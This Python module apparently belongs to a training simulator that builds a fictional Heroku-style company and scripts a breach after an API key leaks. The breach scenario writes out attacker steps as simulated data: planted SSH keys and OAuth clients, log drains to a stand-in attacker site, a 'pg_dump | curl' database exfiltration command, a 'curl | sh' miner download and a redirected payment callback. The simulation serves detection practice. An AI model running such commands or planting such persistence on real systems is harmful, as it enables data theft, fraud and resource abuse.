"""What happened to the company: nothing (`quiet`), or an attacker came in with the leaked key (`breach`)."""

from __future__ import annotations

from collections.abc import Callable
from datetime import datetime, timedelta

from herotui.errors import WrongUse
from herotui.simulator.changes import emit, let_in, restart, run, set_config
from herotui.simulator.company import Plan, authorize, found, ssh_key
from herotui.simulator.estate import Estate, settle
from herotui.simulator.mint import Mint
from herotui.simulator.people import POOL_SIZE, Client
from herotui.simulator.portfolio import build_apps
from herotui.simulator.things import App, Drain, Webhook
from herotui.simulator.timeline import Clock
from herotui.simulator.views import show_dyno
from herotui.simulator.world import World

ATTACKER_HOST = "kali-vps-7"
ATTACKER_MAIL = "ops.backup@mailbox.example"
ATTACKER_SITE = "cdn-metrics.example"
REQUESTS_MADE = 1900


def build(*, apps: int, seed: int, scenario: str, clock: Clock, estate: Estate | None = None) -> World:
    """The company that `apps`, `seed` and the clock's start name (or the estate describes), after the scenario.

    Raises WrongUse for a scenario that does not exist or less than one app.
    """
    if scenario not in SCENARIOS:
        raise WrongUse(f"There is no scenario {scenario!r}.", do=f"Choose one of: {', '.join(SCENARIOS)}.")
    if apps < 1:
        raise WrongUse("A company needs at least one app.", do="Give --apps 1 or more.")
    world, staff = found(clock, seed, apps)
    if estate:
        settle(world, staff, estate)
    else:
        build_apps(world, staff, apps)
    world.mint = Mint(f"{seed}:{scenario}")
    SCENARIOS[scenario](world)
    world.mint = Mint(f"{seed}:later")
    clock.run()
    return world


def quiet(world: World) -> None:
    """The key leaked, and nobody used it."""


def breach(world: World) -> None:
    """Within three hours of the leak the attacker made itself at home."""
    apps = list(world.apps.values())
    first, second, third = (apps[number % len(apps)] for number in (0, 2, 5))
    _stay_in(world)
    _listen(world, first)
    _use(world, second)
    let_in(world, first, world.owner, world.meet(ATTACKER_MAIL), at=_after(world, 41))
    _redirect(world, third)
    world.owner.pool.left = POOL_SIZE - REQUESTS_MADE


SCENARIOS: dict[str, Callable[[World], None]] = {"breach": breach, "quiet": quiet}


def _after(world: World, minutes: int) -> datetime:
    """A moment after the leak; the leak is at least 280 minutes old."""
    return world.leaked_at + timedelta(minutes=minutes, seconds=world.mint.number(0, 59))


def _stay_in(world: World) -> None:
    """What survives the leaked key: a login, an inconspicuous key, an SSH key, an OAuth client."""
    mint, owner = world.mint, world.owner
    login = Plan("Heroku CLI login from {host}", ("global",), 0, lasts_days=30, session=True)
    for plan, minutes in ((login, 14), (Plan("github-actions", ("global",), 0), 22)):
        at = _after(world, minutes)
        authorize(world, mint, owner, plan, at, ATTACKER_HOST).by_attacker = True
    key = ssh_key(mint, f"root@{ATTACKER_HOST}", _after(world, 25))
    owner.keys[key.id] = key
    at = _after(world, 31)
    client = Client(mint.uuid(), "Deploy helper", f"https://{ATTACKER_SITE}/oauth", mint.uuid(), owner, at, at)
    world.clients[client.id] = client


def _listen(world: World, app: App) -> None:
    """A drain and a webhook: logs and events go out."""
    mint, at, later = world.mint, _after(world, 36), _after(world, 38)
    drain = Drain(mint.uuid(), f"https://logs.{ATTACKER_SITE}/ingest/{mint.hex(8)}", f"d.{mint.uuid()}", at, at)
    app.drains[drain.id] = drain
    include = ["api:release", "api:dyno", "api:collaborator"]
    hook = Webhook(mint.uuid(), f"https://hooks.{ATTACKER_SITE}/in", include, "notify", later, later)
    app.webhooks[hook.id] = hook


def _use(world: World, app: App) -> None:
    """One-off dynos, one of them still running, and a worker scaled up to mine."""
    for minutes, command in (
        (52, "env"),
        (55, "bash"),
        (63, "bash -c 'pg_dump $DATABASE_URL | gzip | curl -T - $OUT'"),
    ):
        at = _after(world, minutes)
        dyno = run(world, app, command, "Standard-1X", at=at)
        emit(world, app, world.owner, "api:dyno", "create", show_dyno(app, dyno), at=at)
        del app.dynos[dyno.id]
    started = _after(world, 71)
    command = f"bash -c 'curl -s https://{ATTACKER_SITE}/m.sh | sh'"
    run(world, app, command, "Performance-L", at=started)
    worker = next(process for process in app.formation.values() if process.type == "worker")
    worker.quantity, worker.size, worker.updated_at = 6, "Performance-L", _after(world, 74)
    restart(world, app, at=worker.updated_at)


def _redirect(world: World, app: App) -> None:
    """A config change that looks like the owner's."""
    url = f"https://relay.{ATTACKER_SITE}/callback"
    set_config(world, app, world.owner, {"PAYMENT_CALLBACK_URL": url}, at=_after(world, 96))
